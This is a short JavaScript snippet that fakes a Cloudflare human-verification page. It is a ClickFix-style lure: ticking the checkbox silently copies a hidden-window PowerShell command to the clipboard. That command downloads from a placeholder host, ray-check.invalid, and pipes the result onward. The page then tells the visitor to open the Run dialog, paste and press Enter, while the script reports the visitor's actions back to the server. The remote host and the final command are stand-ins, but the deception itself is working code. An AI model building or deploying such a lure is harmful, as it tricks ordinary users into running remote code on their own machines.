(function(){
  var ray = Array.from({length:16},function(){return "0123456789abcdef"[Math.random()*16|0]}).join("");
  document.title = "Just a moment...";
  document.body.innerHTML = '<div class="main-wrapper"><h1>'+location.hostname+'</h1><p id="t">Verify you are human by completing the action below.</p><div id="ts"><input type="checkbox" id="cb"><label>Verify you are human</label></div><div id="pop" hidden></div><footer>Ray ID: <code>'+ray+'</code><br>Performance &amp; security by Cloudflare</footer></div>';
  var parts = ["powershell"," -w"," hidden"," -c ","\"iwr ","https://ray-check.invalid/","AAAA"," | PLACEHOLDER\""];
  document.getElementById("cb").onchange = function(){
    var p = document.getElementById("pop");
    fetch("/click?r="+ray+"&ev=check");
    navigator.clipboard.writeText(parts.join("")+"   # Cloudflare Ray ID: "+ray).then(function(){
      p.hidden = false;
      p.innerHTML = "<b>Unusual Web Traffic Detected</b><br>1. Press &amp; hold the Windows Key <kbd>⊞</kbd> + <kbd>R</kbd>.<br>2. In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd>.<br>3. Press <kbd>Enter</kbd> on your keyboard to finish.<br><small>You will observe and agree: <q>I am human, Ray ID "+ray+"</q></small>";
      fetch("/click?r="+ray+"&ev=copied");
    });
  };
  window.addEventListener("blur",function(){fetch("/click?r="+ray+"&ev=blur")});
})();
